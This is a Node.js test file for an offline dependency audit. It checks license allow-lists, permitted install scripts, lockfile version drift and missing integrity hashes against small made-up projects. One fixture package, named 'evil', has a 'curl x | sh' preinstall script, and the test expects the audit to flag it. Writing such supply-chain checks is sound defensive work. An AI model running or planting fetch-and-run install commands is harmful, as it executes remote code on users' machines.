// node --test scripts/: the offline audit on small made-up projects, each with a known verdict.
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { auditProject, licenseAllowed } from './audit-offline.mjs';

const policy = { allowedLicenses: ['MIT', 'Apache-2.0', 'ISC'], licenseExceptions: { 'gpl-ok': { license: 'GPL-3.0', reason: 'test' } }, installScripts: { esbuild: 'test' } };

function project(packages) {
  const root = mkdtempSync(join(tmpdir(), 'liftguard-audit-'));
  const lock = { lockfileVersion: 3, packages: { '': { name: 'root' } } };
  for (const [name, { license, scripts, version = '1.0.0', integrity = 'sha512-x' }] of Object.entries(packages)) {
    mkdirSync(join(root, 'node_modules', name), { recursive: true });
    writeFileSync(join(root, 'node_modules', name, 'package.json'), JSON.stringify({ name, version, license, ...(scripts ? { scripts } : {}) }));
    lock.packages[`node_modules/${name}`] = { version: '1.0.0', license, ...(integrity ? { integrity } : {}), ...(scripts ? { hasInstallScript: true } : {}) };
  }
  writeFileSync(join(root, 'package-lock.json'), JSON.stringify(lock));
  return root;
}

test('SPDX expressions: OR needs one allowed side, AND needs both', () => {
  assert.equal(licenseAllowed('(MIT OR GPL-3.0)', ['MIT']), true);
  assert.equal(licenseAllowed('MIT AND GPL-3.0', ['MIT']), false);
  assert.equal(licenseAllowed('(MIT AND (Apache-2.0 OR GPL-2.0))', ['MIT', 'Apache-2.0']), true);
  assert.equal(licenseAllowed(undefined, ['MIT']), false);
});

test('a clean project passes; allowed install scripts are listed', () => {
  const result = auditProject(project({ a: { license: 'MIT' }, esbuild: { license: 'MIT', scripts: { postinstall: 'node install.js' } }, 'gpl-ok': { license: 'GPL-3.0' } }), policy);
  assert.deepEqual(result.problems, []);
  assert.equal(result.checked, 3);
  assert.deepEqual(result.installScripts, ['esbuild: postinstall: node install.js']);
});

test('a license outside the allow-list, an unknown install script, a version drift and a missing hash all fail', () => {
  const { problems } = auditProject(
    project({ gpl: { license: 'GPL-3.0' }, evil: { license: 'MIT', scripts: { preinstall: 'curl x | sh' } }, drift: { license: 'MIT', version: '9.9.9' }, unhashed: { license: 'MIT', integrity: '' } }),
    policy,
  );
  assert.equal(problems.length, 4, problems.join('\n'));
  assert.match(problems.join('\n'), /gpl@1\.0\.0: license "GPL-3\.0" is not in the allow-list/);
  assert.match(problems.join('\n'), /evil@1\.0\.0: runs an install script not in the allow-list \(preinstall: curl x \| sh\)/);
  assert.match(problems.join('\n'), /drift: installed version 9\.9\.9 is not the locked 1\.0\.0/);
  assert.match(problems.join('\n'), /unhashed: no integrity hash/);
});
